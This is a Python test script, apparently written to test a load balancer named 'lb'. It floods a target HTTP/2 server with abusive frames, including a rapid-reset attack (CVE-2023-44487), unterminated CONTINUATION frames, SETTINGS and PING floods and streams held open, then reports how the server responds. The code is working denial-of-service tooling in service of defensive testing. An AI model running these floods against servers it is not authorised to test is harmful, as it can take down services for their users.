#!/usr/bin/python3
"""HTTP/2 abuse at the frame level, for lb's tests (run with /usr/bin/python3; uses python3-hpack,
which python3-h2 brings). Usage: h2_abuse.py HOST:PORT MODE [COUNT]

Modes:
- rapid-reset: open COUNT streams, each HEADERS (a whole GET) at once followed by RST_STREAM
  (CANCEL) (CVE-2023-44487);
- continuation: HEADERS without END_HEADERS, then CONTINUATION frames without end, up to COUNT
  frames of 16 KiB;
- settings: COUNT SETTINGS frames, never reading the acknowledgements;
- ping: COUNT PING frames, never reading the answers;
- streams: COUNT streams opened and left open (HEADERS without END_STREAM);
- idle: no abuse: a well-behaved idle connection that prints `connected` once lb's SETTINGS
  arrived (`refused` if lb closed it before any), then waits up to COUNT seconds for lb to end it (to see the GOAWAY of a graceful
  stop).

Prints one JSON object: frames sent, whether sending blocked (the server stopped reading),
whether the server closed, its GOAWAY error code if any, the RST_STREAM codes it sent, and the
SETTINGS_MAX_CONCURRENT_STREAMS it advertised.
"""
import json
import socket
import struct
import sys
import threading
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


class Reader(threading.Thread):
    """Reads the server's frames and keeps what the report needs."""

    def __init__(self, sock, answer_pings=False):
        super().__init__(daemon=True)
        self.sock = sock
        self.answer_pings = answer_pings
        self.max_streams = None
        self.goaway = None
        self.goaway_at = None
        self.closed_at = None
        self.resets = {}
        self.closed = False
        self.frames = 0

    def read_exact(self, n):
        buf = b""
        while len(buf) < n:
            chunk = self.sock.recv(n - len(buf))
            if not chunk:
                raise EOFError
            buf += chunk
        return buf

    def run(self):
        try:
            while True:
                head = self.read_exact(9)
                length = struct.unpack(">I", b"\0" + head[:3])[0]
                kind, flags = head[3], head[4]
                stream = struct.unpack(">I", head[5:9])[0] & 0x7FFFFFFF
                payload = self.read_exact(length)
                self.frames += 1
                if kind == SETTINGS and not flags & ACK:
                    for i in range(0, len(payload) - 5, 6):
                        ident, value = struct.unpack(">HI", payload[i:i + 6])
                        if ident == 3:
                            self.max_streams = value
                elif kind == GOAWAY and len(payload) >= 8:
                    self.goaway = struct.unpack(">I", payload[4:8])[0]
                    self.goaway_at = self.goaway_at or time.time()
                elif kind == PING and not flags & ACK and self.answer_pings:
                    self.sock.sendall(frame(PING, ACK, 0, payload))
                elif kind == RST_STREAM and len(payload) >= 4:
                    code = struct.unpack(">I", payload[:4])[0]
                    self.resets[code] = self.resets.get(code, 0) + 1
        except (EOFError, OSError):
            self.closed_at = time.time()
            self.closed = True


def main():
    host, port = sys.argv[1].rsplit(":", 1)
    mode = sys.argv[2]
    count = int(sys.argv[3]) if len(sys.argv) > 3 else 10000
    sock = socket.create_connection((host, int(port)), timeout=10)
    # A stalled send (the server stopped reading) ends the flood after this long.
    sock.settimeout(5)
    reader = Reader(sock, answer_pings=(mode == "idle"))
    reader.start()
    encoder = hpack.Encoder()
    get = [(":method", "GET"), (":scheme", "http"), (":path", "/"), (":authority", "lb.test")]
    post = [(":method", "POST"), (":scheme", "http"), (":path", "/"), (":authority", "lb.test")]
    sent = 0
    blocked = False
    batch = []

    def send(data):
        nonlocal sent, blocked
        batch.append(data)
        if len(batch) >= 64:
            flush()

    def flush():
        nonlocal sent, blocked
        if not batch or blocked:
            batch.clear()
            return
        try:
            sock.sendall(b"".join(batch))
            sent += len(batch)
        except socket.timeout:
            blocked = True
        except OSError:
            blocked = True
        batch.clear()

    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        # Enough connection window for whatever the server sends back.
        sock.sendall(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1 << 30)))
        if mode == "rapid-reset":
            block = encoder.encode(get)
            for i in range(count):
                stream = 2 * i + 1
                send(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                send(frame(RST_STREAM, 0, stream, struct.pack(">I", 8)))
                if blocked or reader.closed:
                    break
        elif mode == "continuation":
            send(frame(HEADERS, END_STREAM, 1, encoder.encode(get)))
            junk = encoder.encode([("x-flood", "a" * 16000)])[:16384]
            for _ in range(count):
                send(frame(CONTINUATION, 0, 1, junk))
                if blocked or reader.closed:
                    break
        elif mode == "settings":
            for _ in range(count):
                send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)))
                if blocked or reader.closed:
                    break
        elif mode == "ping":
            for i in range(count):
                send(frame(PING, 0, 0, struct.pack(">Q", i)))
                if blocked or reader.closed:
                    break
        elif mode == "streams":
            for i in range(count):
                send(frame(HEADERS, END_HEADERS, 2 * i + 1, encoder.encode(post)))
        elif mode == "idle":
            while reader.frames == 0 and not reader.closed:
                time.sleep(0.05)
            if reader.frames == 0:
                # Closed before any HTTP/2 frame: lb refused the connection.
                print("refused", flush=True)
            else:
                # Acknowledge lb's SETTINGS, as a real client would.
                sock.sendall(frame(SETTINGS, ACK, 0))
                print("connected", flush=True)
            deadline = time.time() + count
            while time.time() < deadline and not reader.closed:
                time.sleep(0.05)
        else:
            raise SystemExit(f"unknown mode {mode}")
        flush()
    except OSError:
        if mode == "idle" and reader.frames == 0:
            # Closed (reset) before any HTTP/2 frame: lb refused the connection.
            print("refused", flush=True)
    # Give the server time to answer what it was sent (bounded).
    deadline = time.time() + 3
    while time.time() < deadline and not reader.closed:
        time.sleep(0.1)
    print(json.dumps({
        "mode": mode,
        "sent": sent,
        "blocked": blocked,
        "closed": reader.closed,
        "goaway": reader.goaway,
        "resets": reader.resets,
        "max_concurrent_streams": reader.max_streams,
        "frames_received": reader.frames,
        "goaway_at": reader.goaway_at,
        "closed_at": reader.closed_at,
    }))
    sock.close()


main()
